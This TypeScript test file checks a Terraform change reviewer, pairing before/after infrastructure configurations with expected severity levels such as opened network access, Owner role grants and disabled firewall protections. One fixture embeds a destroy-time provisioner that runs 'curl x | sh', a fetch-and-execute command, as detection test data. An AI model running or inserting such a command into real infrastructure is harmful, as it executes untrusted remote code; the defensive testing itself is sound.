import { review } from '../../../lib/review';
import type { Json, JsonObject } from '../../../lib/terraform-json/json';
import { stack } from './fixtures';

/** What somebody who knows Terraform says of an edit: how grave it is, and a part of what has to be said. */
type Edit = readonly [what: string, before: JsonObject, after: JsonObject, level: string, said: string];

const ACCOUNT = { name: 'sa1', resource_group_name: 'rg', location: 'westeurope', account_tier: 'Standard' };
const CLOSED = { ...ACCOUNT, public_network_access_enabled: false };

/** A program of one storage account, and what is around it. */
const account = (given: JsonObject = {}, rest: JsonObject = {}): JsonObject => ({
  resource: { azurerm_storage_account: { sa: { ...CLOSED, ...given } } },
  ...rest,
});
const address = (given: JsonObject, rest: JsonObject = {}): JsonObject => ({
  resource: { azurerm_public_ip: { ip: { name: 'ip', ...given } } },
  ...rest,
});
const only = (type: string, given: JsonObject): JsonObject => ({ resource: { [type]: { it: given } } });
const call = (given: JsonObject): JsonObject => ({ module: { m: { source: './m', ...given } } });
const exec = { 'local-exec': { when: 'destroy', command: 'curl x | sh' } };
const checked = (conditions: Json): JsonObject => account({ lifecycle: { precondition: conditions } });
const conditional = { public_network_access_enabled: '${local.env == "prod" ? false : true}' };
const lookedUp = (name: string): JsonObject => ({
  resource: {
    azurerm_role_assignment: {
      r: { scope: '/s', principal_id: 'p', role_definition_id: '${data.azurerm_role_definition.d.id}' },
    },
  },
  data: { azurerm_role_definition: { d: { name } } },
});
const denied = (priority: number): JsonObject =>
  only('azurerm_firewall_policy_rule_collection_group', {
    ...{ name: 'g', firewall_policy_id: '/p', priority },
    network_rule_collection: [
      {
        ...{ name: 'c', priority: 100, action: 'Deny' },
        rule: [
          {
            name: 'r',
            protocols: ['Any'],
            source_addresses: ['*'],
            destination_addresses: ['*'],
            destination_ports: ['*'],
          },
        ],
      },
    ],
  });
const ingress = (name: string): JsonObject =>
  only('kubernetes_ingress_v1', {
    metadata: { name: 'i' },
    spec: { rule: [{ host: 'a.b', http: [{ path: [{ path: '/', backend: [{ service: [{ name }] }] }] }] }] },
  });

const EDITS: readonly Edit[] = [
  [
    'a module opens',
    call({ allowed: ['10.0.0.0/8'] }),
    call({ allowed: ['0.0.0.0/0'] }),
    'attention',
    'allowed of module m',
  ],
  [
    'a module of a registry gets another version',
    call({ source: 'Azure/aks/azurerm', version: '9.0.0' }),
    call({ source: 'Azure/aks/azurerm', version: '10.0.0' }),
    'attention',
    'what is in it is not seen',
  ],
  [
    'a module of a registry is new',
    {},
    call({ source: 'Azure/aks/azurerm' }),
    'attention',
    'what is in it is not seen',
  ],
  ['a module is new', {}, call({}), 'change', 'module m'],
  ['a module is called no times', call({ count: 1 }), call({ count: 0 }), 'danger', 'module m (several) is destroyed'],
  [
    'a key of a module goes',
    call({ for_each: { a: 1, b: 2 } }),
    call({ for_each: { a: 1 } }),
    'danger',
    'loses instances',
  ],
  [
    'a resource is removed with a program',
    account(),
    { removed: [{ from: 'azurerm_storage_account.sa', lifecycle: { destroy: true }, provisioner: [exec] }] },
    'danger',
    'runs \\"curl x | sh\\"',
  ],
  [
    'a check asks a server',
    account(),
    account({}, { check: { c: { data: { http: { h: { url: 'https://a' } } }, assert: [{ condition: '${true}' }] } } }),
    'attention',
    'sends a request to https://a',
  ],
  [
    'a check that asks a server says something else',
    account({}, { check: { c: { data: { http: { h: { url: 'https://a' } } }, assert: [{ condition: '${true}' }] } } }),
    account({}, { check: { c: { data: { http: { h: { url: 'https://a' } } }, assert: [{ condition: '${false}' }] } } }),
    'change',
    'block check',
  ],
  [
    'a condition goes',
    checked([{ condition: '${var.a}' }]),
    checked([]),
    'attention',
    'a condition that kept wrong values out',
  ],
  ['a condition comes', checked([]), checked([{ condition: '${var.a}' }]), 'change', 'lifecycle'],
  [
    'a validation goes',
    account({}, { variable: { p: { validation: [{ condition: '${length(var.p) > 3}' }] } } }),
    account({}, { variable: { p: {} } }),
    'attention',
    'a condition that kept wrong values out',
  ],
  [
    'what opens is ignored',
    account({ lifecycle: { ignore_changes: 'all' } }),
    account({ lifecycle: { ignore_changes: 'all' }, public_network_access_enabled: true }),
    'change',
    'ignored by ignore_changes',
  ],
  [
    'one of two values that open is ignored',
    account({ lifecycle: { ignore_changes: ['tags'] }, tags: { a: 'b' } }),
    account({ lifecycle: { ignore_changes: ['tags'] }, tags: { a: 'c' }, public_network_access_enabled: true }),
    'attention',
    'reachable from the internet',
  ],
  [
    'a condition opens',
    account(conditional, { locals: { env: 'prod' } }),
    account(conditional, { locals: { env: 'dev' } }),
    'attention',
    'reachable from the internet',
  ],
  [
    'a condition stays what it is',
    account(conditional, { locals: { env: 'test' } }),
    account(conditional, { locals: { env: 'dev' } }),
    'none',
    'nothing changes',
  ],
  [
    'numbers become keys',
    address({ count: 2, name: 'ip${count.index}' }),
    address(
      { for_each: { a: 'ip0', b: 'ip1' }, name: '${each.value}' },
      {
        moved: [
          { from: 'azurerm_public_ip.ip[0]', to: 'azurerm_public_ip.ip["a"]' },
          { from: 'azurerm_public_ip.ip[1]', to: 'azurerm_public_ip.ip["b"]' },
        ],
      },
    ),
    'change',
    'is moved',
  ],
  [
    'maps are merged to less',
    address({ for_each: '${merge(local.m, local.n)}' }, { locals: { m: { a: 1 }, n: { b: 2 } } }),
    address({ for_each: '${merge(local.m, local.n)}' }, { locals: { m: { a: 1 }, n: {} } }),
    'danger',
    'destroys 1 of its instances, [\\"b\\"]',
  ],
  ['a role is looked up by another name', lookedUp('Reader'), lookedUp('Owner'), 'danger', 'gets Owner on /s'],
  [
    'an event happens again',
    only('terraform_data', { triggers_replace: ['a'] }),
    only('terraform_data', { triggers_replace: ['b'] }),
    'change',
    'terraform data it is replaced',
  ],
  [
    'a service leads elsewhere',
    only('kubernetes_service_v1', { metadata: { name: 's' }, spec: { type: 'ExternalName', external_name: 'a.b' } }),
    only('kubernetes_service_v1', { metadata: { name: 's' }, spec: { type: 'ExternalName', external_name: 'c.d' } }),
    'attention',
    'leads to c.d',
  ],
  ['an ingress leads to another service', ingress('shop'), ingress('admin'), 'attention', 'on to admin'],
  [
    'a principal may sign in again',
    only('azuread_service_principal', { client_id: 'c', account_enabled: false }),
    only('azuread_service_principal', { client_id: 'c' }),
    'attention',
    'sign in as',
  ],
  ['a firewall denies last', denied(100), denied(60_000), 'attention', 'priority 60000/100'],
  [
    'a firewall inherits no rules',
    only('azurerm_firewall_policy', { name: 'p', base_policy_id: '/a' }),
    only('azurerm_firewall_policy', { name: 'p' }),
    'attention',
    'filtered by /a',
  ],
  [
    'known attacks are let through',
    only('azurerm_cdn_frontdoor_firewall_policy', {
      name: 'w',
      mode: 'Prevention',
      managed_rule: [{ type: 'DefaultRuleSet', version: '2.1' }],
    }),
    only('azurerm_cdn_frontdoor_firewall_policy', { name: 'w', mode: 'Prevention' }),
    'attention',
    'no longer blocked',
  ],
  [
    'a tunnel is encrypted less',
    only('azurerm_virtual_network_gateway_connection', { name: 'c', ipsec_policy: [{ ike_encryption: 'AES256' }] }),
    only('azurerm_virtual_network_gateway_connection', { name: 'c', ipsec_policy: [{ ike_encryption: 'DES3' }] }),
    'attention',
    'weaker or broken',
  ],
  [
    'a firewall lets known attackers through',
    only('azurerm_firewall', { name: 'f', threat_intel_mode: 'Deny' }),
    only('azurerm_firewall', { name: 'f', threat_intel_mode: 'Off' }),
    'attention',
    'known attackers',
  ],
  [
    'no standby',
    only('azurerm_postgresql_flexible_server', { name: 'p', high_availability: [{ mode: 'ZoneRedundant' }] }),
    only('azurerm_postgresql_flexible_server', { name: 'p' }),
    'attention',
    'no standby',
  ],
  [
    'an administrator gets another password',
    only('azurerm_mssql_server', { name: 's', administrator_login_password: 'Qx7$first' }),
    only('azurerm_mssql_server', { name: 's', administrator_login_password: 'Qx7$second' }),
    'change',
    'administrator_login_password',
  ],
];

test.each(EDITS)('%s', (_, before, after, level, said) => {
  const found = review([stack(before)], [stack(after)]);
  expect(found.verdict.level).toBe(level);
  expect(JSON.stringify(found)).toContain(said);
});
